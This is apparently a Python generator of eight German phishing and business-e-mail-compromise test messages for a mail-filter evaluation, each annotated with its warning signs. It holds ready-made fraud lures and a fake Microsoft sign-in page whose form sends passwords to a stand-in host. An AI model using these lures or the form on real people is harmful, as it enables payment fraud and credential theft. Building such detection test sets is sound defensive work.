"""Attack messages 01-08 (German)."""
from lib import *

F = 'attack'


def a01():
    body = """Hallo Frau Köhler,

ich sitze gerade in den abschließenden Gesprächen in Athen und kann nur kurz schreiben – bitte behandeln Sie diese Nachricht streng vertraulich.

Wir stehen kurz vor der Unterzeichnung der Übernahme einer griechischen Reederei mit zwei RoPax-Linien in der Ägäis (intern: Projekt „Kykladen“). Die Vereinbarung sieht eine Sicherheitsleistung vor, die heute noch auf das Treuhandkonto der begleitenden Kanzlei gehen muss, damit die Exklusivität nicht verfällt. Es handelt sich um 487.500,00 EUR.

Die Transaktion wird von Herrn Dr. Alexander Wendt (Hartmann Wendt Rechtsanwälte, Frankfurt) betreut. Er wird sich in den nächsten Minuten per E-Mail mit den Überweisungsdetails bei Ihnen melden. Bitte folgen Sie seinen Anweisungen und geben Sie die Zahlung direkt frei.

Bis zur offiziellen Bekanntgabe darf niemand im Haus davon erfahren – auch nicht Herr Weißenfels oder die Buchhaltung. Die Gegenseite hat eine sehr strikte NDA, jeder Informationsabfluss gefährdet den Abschluss. Ich bin in den Verhandlungen telefonisch nicht erreichbar, bitte kommunizieren Sie nur per E-Mail mit mir.

Können Sie mir kurz bestätigen, dass die Liquidität heute verfügbar ist?

Vielen Dank für Ihre Unterstützung.

Beste Grüße
Matthias Brückner"""
    Mail(F, 1, 'de', 'ceo-fraud-akquisition-treuhand',
         OutlookSMTP(tr=VPSPostfix(host='mail.examplegroup-eu.com', rdns='vps-5c2e91a4.vps.ovh.net', ip='51.178.62.140',
                                   lan='192.168.1.34', user_ip='89.246.77.201'), lang='de'),
         T(2026, 10, 13, 7, 52, 18), ('Matthias Brückner', 'matthias.brueckner@examplegroup-eu.com'), [S('cfo')],
         'Vertraulich – Projekt Kykladen',
         outlook_alt(body, 'windows-1252'),
         what='CEO fraud, first stage: "CEO" in Athens announces a secret acquisition and a lawyer who will send '
              'escrow details for EUR 487,500.',
         why='Look-alike domain examplegroup-eu.com (real: examplegroup.eu) on an OVH VPS instead of the internal '
             'relay; secrecy towards AP, no phone, same-day payment, hand-off to an unknown "lawyer" - textbook BEC.')


def a02():
    quoted = """Von: Anja Krüger <anja.krueger@example.com>
Gesendet: Dienstag, 20. Oktober 2026 09:12
An: Petra Lang <p.lang@lieferant-gmbh.de>
Betreff: Zahlungsavis KW 43 / offene Posten Example Group

Hallo Frau Lang,

anbei wie besprochen unser Zahlungsavis für KW 43. Die Rechnungen RE-2026-10388 und RE-2026-10412 sind im Lauf für den 30.10., die Gutschrift GS-2026-0217 haben wir verrechnet.

Mit freundlichen Grüßen
Anja Krüger
Kreditorenbuchhaltung
Example Group GmbH & Co. KG"""
    body = """Hallo Frau Krüger,

vielen Dank für das Avis.

Bevor der Zahlungslauf am 30.10. ausgeführt wird, noch ein wichtiger Hinweis: Im Zuge der Umstellung unseres Cash-Managements auf einen neuen Zahlungsverkehrsdienstleister hat sich unsere Bankverbindung geändert. Die bisherige Verbindung bei der Weser-Elbe Sparkasse wird zum Monatsende geschlossen, eingehende Zahlungen werden ab sofort zurückgebucht.

Bitte überweisen Sie die beiden offenen Rechnungen (38.940,12 EUR) daher ausschließlich auf die neue Verbindung:

Kontoinhaber: Lieferant GmbH
Bank: {bank}
IBAN: {iban}
BIC: {bic}

Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang. Unsere Telefonanlage wird diese Woche ebenfalls umgestellt, daher sind wir telefonisch nur eingeschränkt erreichbar – bitte bestätigen Sie mir die Änderung kurz per E-Mail.

Vielen Dank und freundliche Grüße

Petra Lang
Auftragsabwicklung / Debitorenmanagement

Lieferant GmbH
Schiffsersatzteile und technischer Bedarf
Am Seedeich 41 · 27572 Bremerhaven
Tel. +49 471 9826-214
www.lieferant-gmbh.de

""".format(bank=BANK['lief_fake'][0], iban=pretty(BANK['lief_fake'][2]), bic=BANK['lief_fake'][1]) + quoted
    letter = pdf_part([
        '# Lieferant GmbH', 'Schiffsersatzteile und technischer Bedarf · Am Seedeich 41 · 27572 Bremerhaven', '',
        'Example Group GmbH & Co. KG', 'Kreditorenbuchhaltung', 'Fährkai 12', '24103 Kiel', '',
        'Bremerhaven, 27.10.2026', '',
        '## Änderung unserer Bankverbindung', '',
        'Sehr geehrte Damen und Herren,', '',
        'hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert.',
        'Bitte leisten Sie alle Zahlungen ab sofort ausschließlich auf das folgende Konto:', '',
        'Kontoinhaber:  Lieferant GmbH', 'Kreditinstitut:  ' + BANK['lief_fake'][0],
        'IBAN:  ' + pretty(BANK['lief_fake'][2]), 'BIC:  ' + BANK['lief_fake'][1], '',
        'Zahlungen auf die bisherige Verbindung bei der Weser-Elbe Sparkasse können nicht mehr',
        'angenommen werden und werden zurückgeleitet.', '',
        'Mit freundlichen Grüßen', '', 'ppa. Petra Lang                              Jens Oltmanns, Geschäftsführer', '',
        'Lieferant GmbH · Amtsgericht Bremen HRB 31877 HB · USt-IdNr. ' + ck.de_ustid('81452097'),
    ], 'Lieferant_GmbH_Aenderung_Bankverbindung.pdf', title='Änderung Bankverbindung', author='p.lang',
        producer='Microsoft® Word für Microsoft 365', creator='Microsoft® Word für Microsoft 365',
        created="D:20261027153210+01'00'")
    Mail(F, 2, 'de', 'lieferant-lookalike-bankdatenaenderung',
         EXO(org='lieferant-gmbh.com', region='EUR', replies=1), T(2026, 10, 28, 9, 31, 5),
         ('Petra Lang', 'p.lang@lieferant-gmbh.com'), [S('ap2')],
         'AW: Zahlungsavis KW 43 / offene Posten Example Group',
         mixed(outlook_alt(body, 'windows-1252'), letter),
         cc=[('Buchhaltung', 'rechnungen@lieferant-gmbh.com')],
         irt='<AM9PR08MB4412C7A0D4E1F2B3C5D6E7F8A9B0C1D2@AM9PR08MB4412.eurprd08.prod.outlook.com>',
         topic='Zahlungsavis KW 43 / offene Posten Example Group',
         what='Supplier bank-detail change inside a copied AP thread, with a "management letter" PDF.',
         why='Sender and Cc use lieferant-gmbh.com (real: lieferant-gmbh.de) from a separate Microsoft 365 tenant '
             '(X-OriginatorOrg lieferant-gmbh.com); new account at a Lithuanian payment institution; asks to confirm '
             'by e-mail and discourages a call-back - supplier-impersonation BEC.')


def a03():
    body = """Hallo Frau Hoffmann,

ich habe zum nächsten Monat mein Gehaltskonto gewechselt. Könnten Sie bitte die Bankverbindung für die Gehaltsabrechnung ab November auf das neue Konto umstellen?

Kontoinhaber: Felix Neumann
IBAN: {iban}
BIC: {bic}

Ich bin diese Woche durchgehend bei Kunden in Polen unterwegs und komme nicht an meinen Firmenlaptop, deshalb schreibe ich Ihnen von meiner privaten Adresse. Das alte Konto bei der Sparkasse löse ich bereits auf, daher wäre es super, wenn die Änderung noch für den Novemberlauf klappt.

Geben Sie mir bitte kurz Bescheid, wenn alles erledigt ist.

Vielen Dank und viele Grüße
Felix Neumann""".format(iban=pretty(BANK['payroll_fake'][2]), bic=BANK['payroll_fake'][1])
    Mail(F, 3, 'de', 'payroll-diversion-privatadresse',
         OutlookCom(lang='de-DE'), T(2026, 11, 16, 6, 58, 40), ('Felix Neumann', 'felix.neumann.kiel@outlook.de'),
         [S('hr')], 'Änderung Bankverbindung Gehalt',
         outlook_alt(body, 'iso-8859-1'),
         what='Payroll diversion: "employee" asks HR to change his salary account before the November run.',
         why='Written from an unknown outlook.de address (Felix Neumann\'s known private address is at gmx.de), '
             'excuse for not using company mail, new neobank IBAN, deadline pressure; salary changes are not '
             'accepted by e-mail - payroll-diversion BEC.')


def a04():
    link = 'https://www.elster.de.zertifikat-verlaengerung.com/eportal/login?vorgang=ORG-2026-%s' % hx('a04', 10, UPHEX)
    plain = """ELSTER - Ihr Online-Finanzamt

Sehr geehrte Nutzerin, sehr geehrter Nutzer,

das Organisationszertifikat Ihres Benutzerkontos "Example Group GmbH & Co. KG" (Steuernummer 20 295 *** ***) läuft am 31.10.2026 ab.

Nach Ablauf des Zertifikats können Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr übermittelt werden. Für verspätet abgegebene Anmeldungen können Verspätungszuschläge nach § 152 AO festgesetzt werden.

Bitte verlängern Sie das Zertifikat rechtzeitig. Die Verlängerung dauert nur wenige Minuten:

{link}

Halten Sie dafür Ihre bisherige Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit.

Mit freundlichen Grüßen
Ihr ELSTER-Team

Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.
""".format(link=link)
    htm = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>ELSTER</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1d1d1b">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eef1f4"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;margin:24px 0">
<tr><td style="background:#004b76;padding:18px 28px;color:#ffffff;font-size:22px;font-weight:bold">ELSTER <span style="font-weight:normal;font-size:14px">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:28px;font-size:14px;line-height:21px">
<p>Sehr geehrte Nutzerin, sehr geehrter Nutzer,</p>
<p>das <b>Organisationszertifikat</b> Ihres Benutzerkontos <b>&bdquo;Example Group GmbH &amp; Co. KG&ldquo;</b> (Steuernummer 20 295 *** ***) l&auml;uft am <b>31.10.2026</b> ab.</p>
<p>Nach Ablauf des Zertifikats k&ouml;nnen Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassende Meldungen nicht mehr &uuml;bermittelt werden. F&uuml;r versp&auml;tet abgegebene Anmeldungen k&ouml;nnen Versp&auml;tungszuschl&auml;ge nach &sect; 152 AO festgesetzt werden.</p>
<p style="text-align:center;margin:28px 0"><a href="{link}" style="background:#004b76;color:#ffffff;text-decoration:none;padding:12px 26px;font-weight:bold">Zertifikat jetzt verl&auml;ngern</a></p>
<p>Halten Sie daf&uuml;r Ihre bisherige Zertifikatsdatei (.pfx) und das zugeh&ouml;rige Passwort bereit.</p>
<p>Mit freundlichen Gr&uuml;&szlig;en<br>Ihr ELSTER-Team</p>
</td></tr>
<tr><td style="padding:14px 28px;background:#f6f7f8;font-size:11px;color:#666">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht. &copy; 2026 Bayerisches Landesamt f&uuml;r Steuern</td></tr>
</table></td></tr></table></body></html>
""".format(link=link)
    Mail(F, 4, 'de', 'elster-zertifikat-phishing',
         Brevo(account=4418207), T(2026, 10, 22, 5, 14, 33), ('ELSTER - Ihr Online-Finanzamt', 'noreply@elster-onlinedienste.de'),
         [S('cfo')], 'Ihr ELSTER-Organisationszertifikat läuft am 31.10.2026 ab',
         alt(text(plain, 'utf-8', 'quoted-printable'), html(htm, 'utf-8', 'quoted-printable')),
         extra=[('List-Unsubscribe', '<https://elster-onlinedienste.de/unsubscribe?e=%s>' % hx('a04u', 24))],
         what='Fake ELSTER notice: organisation certificate "expires", link to renew with the .pfx file and password.',
         why='Sent through Brevo from elster-onlinedienste.de (not elster.de); the link host is '
             'elster.de.zertifikat-verlaengerung.com (a sub-domain trick); asks for the certificate file and PIN '
             '= credential and certificate theft.')


def a05():
    mrn = '26DE851100012345E7'
    rcpt = S('ap')[1]
    body = """Sehr geehrte Damen und Herren,

zu Ihrer Sendung (Trailer KI-EX 4471, Fährüberfahrt Klaipėda–Kiel vom 29.10.2026) liegt der Bescheid über die Festsetzung der Einfuhrabgaben vor (MRN {mrn}).

Der Bescheid ist aus Datenschutzgründen als geschütztes Dokument beigefügt. Bitte öffnen Sie die Anlage und melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an, um den Bescheid anzuzeigen.

Die Abgaben (Zoll und Einfuhrumsatzsteuer, gesamt 4.812,37 EUR) sind innerhalb von 10 Tagen zu entrichten.

Mit freundlichen Grüßen

Zollservice Husum
Zollabfertigung · Versandverfahren · Fiskalvertretung
Tel. 04841 77 63 90""".format(mrn=mrn)
    page = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Anmelden - Microsoft 365</title>
<style>body{{margin:0;background:#f2f2f2;font-family:"Segoe UI",Arial,sans-serif}}.box{{width:340px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
h1{{font-size:24px;font-weight:600;margin:16px 0}}input{{width:100%;padding:6px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0}}
.btn{{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}}.doc{{font-size:13px;color:#333;background:#f3f6fb;padding:10px;margin-bottom:14px}}</style></head>
<body><div class="box">
<div style="font-size:20px;color:#737373;font-weight:600">Microsoft</div>
<h1>Anmelden</h1>
<div class="doc">&#128274; Gesch&uuml;tztes Dokument: <b>Abgabenbescheid_{mrn}.pdf</b> (218 KB)<br>Best&auml;tigen Sie Ihre Identit&auml;t, um den Bescheid anzuzeigen.</div>
<form method="post" action="https://atlas-abgabenbescheid.app/auth/next.php">
<input type="hidden" name="doc" value="{mrn}">
<input type="email" name="login" value="{rcpt}">
<input type="password" name="passwd" placeholder="Kennwort">
<p style="font-size:13px"><a href="#" style="color:#0067b8">Kennwort vergessen?</a></p>
<button class="btn" type="submit">Anmelden</button>
</form><div style="clear:both"></div></div></body></html>
""".format(mrn=mrn, rcpt=rcpt)
    Mail(F, 5, 'de', 'zollbescheid-html-anhang-login',
         Thunderbird(tr=AllInkl(dd='dd41708', ip='85.13.163.91', lan='10.0.0.12', user_ip='102.91.4.77'), lang='de-DE'),
         T(2026, 11, 3, 10, 6, 51), ('Zollservice Husum | Abfertigung', 'info@zollservice-husum.de'), [S('ap')],
         'Einfuhrabgabenbescheid MRN %s – Trailer KI-EX 4471' % mrn,
         mixed(text(body, 'UTF-8', '8bit', flowed=True),
               attach(page.encode('utf-8'), 'text/html', 'Abgabenbescheid_%s.html' % mrn,
                      label='fake Microsoft sign-in form posting to atlas-abgabenbescheid.app; no script')),
         what='Customs-duty notice from a (compromised) small customs agency with an HTML attachment.',
         why='The attachment is a local fake Microsoft 365 sign-in page pre-filled with the recipient\'s address that '
             'posts the password to atlas-abgabenbescheid.app; the agency is unknown to the company and the mail was '
             'submitted from a Nigerian IP (102.91.4.77) to its hosting - credential phishing via HTML attachment.')


def a06():
    rcpt = S('assist')
    import base64
    url = 'https://aka-ms-mfa.examp1e-secure.com/r/?e=' + base64.urlsafe_b64encode(rcpt[1].encode()).decode().rstrip('=')
    plain = """Microsoft 365 | Sicherheitsinformationen

Hallo Katharina Schäfer,

im Rahmen der Umstellung auf die neuen Microsoft-Sicherheitsstandards müssen alle Konten der Example Group ihre Multi-Faktor-Authentifizierung (MFA) bis zum 11.11.2026 neu registrieren. Konten ohne erneute Registrierung werden danach vorübergehend gesperrt.

So gehen Sie vor:
1. Öffnen Sie die Kamera-App Ihres Smartphones.
2. Scannen Sie den QR-Code in dieser E-Mail.
3. Melden Sie sich mit Ihrem gewohnten Kennwort an und bestätigen Sie die Anfrage in der Authenticator-App.

Die Registrierung dauert weniger als zwei Minuten.

IT-Service Example Group
"""
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #ddd"><tr><td style="background:#0078d4;color:#fff;padding:14px 20px;font-size:17px">Microsoft 365 &nbsp;|&nbsp; Sicherheitsinformationen</td></tr>
<tr><td style="padding:20px">
<p>Hallo Katharina Sch&auml;fer,</p>
<p>im Rahmen der Umstellung auf die neuen Microsoft-Sicherheitsstandards m&uuml;ssen alle Konten der Example Group ihre <b>Multi-Faktor-Authentifizierung (MFA)</b> bis zum <b>11.11.2026</b> neu registrieren. Konten ohne erneute Registrierung werden danach vor&uuml;bergehend gesperrt.</p>
<p><b>Scannen Sie den folgenden Code mit der Kamera Ihres Smartphones:</b></p>
<p style="text-align:center"><img src="cid:mfa-qr-{cid}" width="222" height="222" alt="QR-Code"></p>
<p>Melden Sie sich anschlie&szlig;end mit Ihrem gewohnten Kennwort an und best&auml;tigen Sie die Anfrage in der Authenticator-App. Die Registrierung dauert weniger als zwei Minuten.</p>
<p style="color:#666;font-size:12px">IT-Service Example Group &middot; Diese Nachricht wurde automatisch versendet.</p>
</td></tr></table></body></html>
""".replace('{cid}', hx('a06cid', 8))
    body = Multi('alternative', [text(plain, 'utf-8', 'quoted-printable'),
                                 related(html(htm, 'utf-8', 'quoted-printable'),
                                         png_qr(url, 'mfa-registrierung.png', inline=True, cid='mfa-qr-' + hx('a06cid', 8)))],
                 None)
    Mail(F, 6, 'de', 'mfa-neuregistrierung-quishing',
         Mailgun(mg='mg.examp1e-secure.com'), T(2026, 11, 9, 7, 41, 2), ('IT-Service Example Group', 'it-service@examp1e-secure.com'),
         [rcpt], 'Aktion erforderlich: MFA-Neuregistrierung bis 11.11.2026',
         body,
         what='Quishing: "IT-Service" asks for MFA re-registration by scanning an inline QR code.',
         why='Sender domain examp1e-secure.com (digit 1) via Mailgun, not the internal relay; the QR code encodes '
             + url + ' (look-alike host, recipient address encoded) - the link is hidden from URL scanners; '
             'lock-out threat. Contradicts the genuine IT notice in business/07.')


def a07():
    nr = 'ZR-2026-118472'
    blocks = [
        '# Zentralregister für Handel und Gewerbe', 'Registerabteilung · Postfach 10 12 44 · 10562 Berlin', '',
        'Example Group GmbH & Co. KG', 'z. Hd. der Geschäftsführung', 'Fährkai 12', '24103 Kiel', '',
        '## Eintragungsofferte / Zahlungsaufforderung   Nr. ' + nr, 'Datum: 03.12.2026', '',
        'Registergericht: Amtsgericht Kiel   ·   HRA 8417 KI', 'Firma: Example Group GmbH & Co. KG',
        'Gegenstand: Reederei, Fährbetrieb, Güter- und Personenbeförderung', '',
        'Eintragung im Zentralregister für Handel und Gewerbe, Veröffentlichungszeitraum 12 Monate', '',
        'Nettobetrag:                                   1.081,76 EUR', 'zzgl. 19 % USt.:                                  205,53 EUR',
        'Gesamtbetrag:                                 1.287,29 EUR', '',
        'Zahlbar bis 14.12.2026 ohne Abzug auf das Konto:', 'Empfänger: ZRHG Registerservice s.r.o.',
        'IBAN: ' + pretty(BANK['fake_register'][2]) + '     BIC: ' + BANK['fake_register'][1],
        'Verwendungszweck: ' + nr, '',
        'Mit Zahlung des Betrages kommt der Vertrag über die Eintragung zustande. Es handelt sich um ein Angebot.',
        'Es besteht keine Verbindung zu amtlichen Registern oder Bekanntmachungen. Laufzeit 3 Jahre,',
        'Kündigung schriftlich mit einer Frist von 3 Monaten. Gerichtsstand Bratislava.',
    ]
    body = """Sehr geehrte Damen und Herren,

anbei erhalten Sie die Zahlungsaufforderung Nr. {nr} zur Eintragung Ihres Unternehmens (Amtsgericht Kiel, HRA 8417 KI).

Bitte überweisen Sie den Betrag von 1.287,29 EUR bis zum 14.12.2026 unter Angabe der Vorgangsnummer, damit die Eintragung fristgerecht veröffentlicht werden kann.

Mit freundlichen Grüßen
Registerabteilung
Zentralregister für Handel und Gewerbe""".format(nr=nr)
    Mail(F, 7, 'de', 'register-eintragungsofferte-rechnung',
         SES(region='eu-west-1', date_zone='CET'), T(2026, 12, 4, 8, 22, 44),
         ('Zentralregister Handel und Gewerbe', 'rechnung@zentralregister-gewerbe.de'), [S('ap')],
         'Zahlungsaufforderung %s – Eintragung Example Group GmbH & Co. KG' % nr,
         mixed(text(body, 'iso-8859-15', 'quoted-printable'),
               pdf_part(blocks, 'Zahlungsaufforderung_%s.pdf' % nr, title='Zahlungsaufforderung', author='ZRHG',
                        producer='TCPDF 6.6.2 (http://www.tcpdf.org)', creator='ZRHG Billing',
                        created="D:20261203101500+01'00'")),
         what='Fake register invoice: "payment request" for an entry in a private "Zentralregister".',
         why='Looks like an official Handelsregister fee but the small print calls it an offer with a 3-year contract; '
             'Slovak IBAN of a s.r.o., bulk-sent via Amazon SES from a generic domain; no business relation - '
             'register/directory invoice scam.')


def a08():
    prev = """Von: Michael Dörr <michael.doerr@example.com>
Gesendet: Montag, 16. November 2026 14:02
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Cc: Ole Petersen <ole.petersen@example.com>
Betreff: AW: Bestellung 4500123871 – Ersatzteile MS Ostseewind (Kühlwasserpumpe)

Hallo Herr Maier,

danke für die Rückmeldung. Die Pumpe muss spätestens am 04.12. in Kiel sein, die MS Ostseewind geht am 07.12. in die Werft. Können Sie die Termine in der AB entsprechend anpassen?

Gruß
Michael Dörr
Einkauf / Technischer Einkauf
Example Group GmbH & Co. KG

Von: Stefan Maier <s.maier@lieferant-gmbh.de>
Gesendet: Montag, 16. November 2026 11:37
An: Michael Dörr <michael.doerr@example.com>
Betreff: AW: Bestellung 4500123871 – Ersatzteile MS Ostseewind (Kühlwasserpumpe)

Hallo Herr Dörr,

die Kühlwasserpumpe (Typ CWP 150-4, inkl. Gleitringdichtungssatz) ist bestellt, der Hersteller meldet derzeit KW 50. Ich versuche, das vorzuziehen.

Viele Grüße
Stefan Maier"""
    body = """Hallo Herr Dörr,

anbei wie besprochen die überarbeitete Auftragsbestätigung mit den angepassten Lieferterminen sowie das aktualisierte Datenblatt der Pumpe.

Da die Unterlagen Preisinformationen enthalten, haben wir sie aus Datenschutzgründen verschlüsselt. Das Kennwort lautet: LG2611

Bitte prüfen Sie die Positionen kurz und geben mir bis morgen Mittag Bescheid, damit wir den Termin beim Hersteller fest buchen können.

Viele Grüße
Stefan Maier
Key Account Management

Lieferant GmbH
Am Seedeich 41 · 27572 Bremerhaven
Tel. +49 471 9826-130

""" + prev
    z = zipc.zip_crypto([('AB_4500123871_rev2.pdf.js',
                          b'// placeholder - inert test file for a mail filter evaluation, no code\n')], 'LG2611', 'a08')
    Mail(F, 8, 'de', 'thread-hijack-lieferant-verschluesseltes-zip',
         EXO(org='lieferant-gmbh.de', region='DEU', replies=2), T(2026, 11, 19, 13, 37, 26), C['maier'],
         [S('proc')], 'AW: Bestellung 4500123871 – Ersatzteile MS Ostseewind (Kühlwasserpumpe)',
         mixed(outlook_alt(body, 'windows-1252'),
               attach(z, 'application/x-zip-compressed', 'AB_4500123871_rev2.zip',
                      label='ZipCrypto, password LG2611 in body; contains AB_4500123871_rev2.pdf.js (one-line placeholder)')),
         irt='<DB9PR08MB6588A4C2E0B1D7F3A9C5E8B2D4F6A1C3@DB9PR08MB6588.eurprd08.prod.outlook.com>',
         topic='Bestellung 4500123871 – Ersatzteile MS Ostseewind (Kühlwasserpumpe)',
         what='Thread hijack from the genuinely compromised mailbox of Stefan Maier (Lieferant GmbH): reply in a real '
              'order thread with an encrypted ZIP.',
         why='Genuine sender, domain and Microsoft 365 tenant, real quoted history - but the "order confirmation" is a '
             'password-protected ZIP (password in the body to evade scanning) whose only member is a .pdf.js script '
             'with a double extension; Lieferant normally sends plain PDFs (see business/04) - malware delivery '
             'through a compromised partner.')


def build():
    for f in (a01, a02, a03, a04, a05, a06, a07, a08):
        f()
